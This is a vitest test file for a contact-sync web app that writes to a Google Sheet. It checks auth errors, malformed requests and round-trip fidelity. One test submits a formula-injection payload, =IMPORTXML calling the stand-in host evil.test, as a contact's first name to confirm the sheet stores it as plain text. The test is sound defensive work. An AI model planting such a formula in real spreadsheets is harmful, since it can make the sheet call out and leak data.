import { describe, expect, it } from 'vitest';
import { newId } from '../../shared/ids';
import { emptyChanges, localSheet, MEMBER, TOKEN } from './local-sheet-harness';

const contact = (overrides: Record<string, unknown> = {}) => {
  const now = new Date().toISOString();
  return { id: newId(), createdAt: now, updatedAt: now, updatedBy: MEMBER, firstName: 'Bea', lastName: 'Lind', emails: ['bea@client.test'], ...overrides };
};

describe('the web app (built bundle on the local sheet)', () => {
  it('stores a synced contact in the Contacts tab and hands back the cursor', () => {
    const sheet = localSheet();
    const bea = contact();
    const answer = sheet.post({ token: TOKEN, clientId: 'c1', since: 0, changes: { ...emptyChanges(), contacts: [bea] } });
    expect(answer).toMatchObject({ ok: true, cursor: 1, rejected: [] });
    const [header, row] = sheet.google.toJSON().sheets.Contacts!;
    expect(header).toContain('id');
    expect(row![header!.indexOf('id')]).toBe(bea.id);
    expect(row![header!.indexOf('Emails')]).toBe('bea@client.test');
  });

  it.each([
    ['a bad token', { token: 'not-the-token-at-all', clientId: 'c1', since: 0, changes: emptyChanges() }, 'unauthorized'],
    ['a malformed body', '{"token": "', 'bad_request'],
    ['a body that is no sync request', { hello: 'world' }, 'bad_request'],
    ['an unknown record type', { token: TOKEN, clientId: 'c1', since: 0, changes: { ...emptyChanges(), invoices: [{ id: 'x' }] } }, 'unknown_table'],
  ])('answers %s with a clear error and changes nothing in the sheet', (_, body, code) => {
    const sheet = localSheet();
    sheet.post({ token: TOKEN, clientId: 'c1', since: 0, changes: { ...emptyChanges(), contacts: [contact()] } });
    const before = JSON.stringify(sheet.google.toJSON());
    const mutations = sheet.google.mutations;
    const answer = sheet.post(typeof body === 'string' ? body : { ...body, changes: { ...(body as { changes?: object }).changes, contacts: [contact({ firstName: 'Intruder' })] } });
    expect(answer).toMatchObject({ ok: false, error: { code } });
    expect((answer.error as { message: string }).message.length).toBeGreaterThan(10);
    expect(sheet.google.mutations).toBe(mutations);
    expect(JSON.stringify(sheet.google.toJSON())).toBe(before);
  });

  it('keeps hostile text as text in the sheet', () => {
    const sheet = localSheet();
    sheet.post({ token: TOKEN, clientId: 'c1', since: 0, changes: { ...emptyChanges(), contacts: [contact({ firstName: '=IMPORTXML("http://evil.test","//a")', phones: ['+4915112345678'] })] } });
    const contacts = sheet.google.globals.SpreadsheetApp.getActiveSpreadsheet().getSheetByName('Contacts')!;
    const header = contacts.getRange(1, 1, 1, contacts.getLastColumn()).getValues()[0]!;
    const row = contacts.getRange(2, 1, 1, contacts.getLastColumn());
    expect(row.getFormulas()[0]!.every((f) => f === '')).toBe(true);
    expect(row.getValues()[0]![header.indexOf('First name')]).toBe('=IMPORTXML("http://evil.test","//a")');
    expect(row.getValues()[0]![header.indexOf('Phones')]).toBe('+4915112345678');
  });

  it('reads back what it wrote without mistaking it for a person’s edit', () => {
    const sheet = localSheet();
    const first = sheet.post({ token: TOKEN, clientId: 'c1', since: 0, changes: { ...emptyChanges(), contacts: [contact({ birthday: '1980-05-01', tags: ['vip', 'berlin'], notes: '0049 is not a number' })] } });
    const second = sheet.post({ token: TOKEN, clientId: 'c1', since: first.cursor, changes: emptyChanges() });
    expect(second).toMatchObject({ ok: true, cursor: first.cursor, changes: emptyChanges() });
  });

  it('answers doGet with the member a token belongs to', () => {
    const sheet = localSheet();
    expect(sheet.get({ token: TOKEN })).toMatchObject({ ok: true, member: MEMBER });
    expect(sheet.get({ token: 'wrong-token-0123456789' })).toMatchObject({ ok: false, error: { code: 'unauthorized' } });
  });

  it('never mistakes its own hidden row hashes for a person’s edit, even hashes that look like numbers', () => {
    const sheet = localSheet();
    const many = Array.from({ length: 2000 }, (_, i) => contact({ firstName: `P${i}`, emails: [`p${i}@client.test`] }));
    const first = sheet.post({ token: TOKEN, clientId: 'c1', since: 0, changes: { ...emptyChanges(), contacts: many } });
    const second = sheet.post({ token: TOKEN, clientId: 'c1', since: first.cursor, changes: emptyChanges() });
    expect(second).toMatchObject({ ok: true, cursor: first.cursor, changes: emptyChanges() });
  });

  it('writes rows between scattered changes back exactly as they were', () => {
    const sheet = localSheet();
    const people = Array.from({ length: 9 }, (_, i) => contact({ firstName: `P${i}`, emails: [`p${i}@client.test`] }));
    const first = sheet.post({ token: TOKEN, clientId: 'c1', since: 0, changes: { ...emptyChanges(), contacts: people } });
    const contacts = sheet.google.globals.SpreadsheetApp.getActiveSpreadsheet().getSheetByName('Contacts')!;
    const header = contacts.getRange(1, 1, 1, contacts.getLastColumn()).getValues()[0]!;
    const notes = header.indexOf('Notes') + 1;
    // A person types text that looks like a number into row 3 (P1), and the next sync takes it in.
    sheet.google.asPerson(() => contacts.getRange(3, notes).setValue("'007"));
    const taken = sheet.post({ token: TOKEN, clientId: 'c1', since: first.cursor, changes: emptyChanges() });
    expect(taken.ok).toBe(true);
    // Changes to rows 2, 4, 6, 8 and 10 are written as one block over row 3.
    const later = new Date(Date.now() + 60_000).toISOString();
    const edits = [0, 2, 4, 6, 8].map((i) => ({ ...people[i], jobTitle: 'Buyer', updatedAt: later }));
    expect(sheet.post({ token: TOKEN, clientId: 'c1', since: Number(taken.cursor), changes: { ...emptyChanges(), contacts: edits } }).ok).toBe(true);
    expect(contacts.getRange(3, notes).getValue()).toBe('007');
    const after = sheet.post({ token: TOKEN, clientId: 'c1', since: 0, changes: emptyChanges() }) as unknown as { changes: { contacts: { firstName: string; notes: string }[] } };
    expect(after.changes.contacts.find((c) => c.firstName === 'P1')?.notes).toBe('007');
  });
});
